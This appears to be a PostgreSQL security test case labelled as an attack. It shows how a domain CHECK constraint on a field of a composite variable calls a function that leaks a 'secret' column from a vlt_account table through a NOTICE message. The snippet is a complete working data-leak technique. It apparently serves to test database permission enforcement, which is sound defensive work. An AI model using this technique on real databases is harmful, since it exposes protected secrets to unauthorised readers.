-- Fetches into a field of a composite variable whose type holds a domain.
-- wants: read
-- attack:
CREATE FUNCTION tells(v text) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN RAISE NOTICE '%', (SELECT secret FROM vlt_account LIMIT 1); RETURN true; END $f$;
CREATE DOMAIN told AS text CHECK (tells(VALUE));
CREATE TYPE pair AS (a int, b told);
DO $$ DECLARE p pair; BEGIN p.b := 'x'; SELECT 1, 'y' INTO p; END $$;
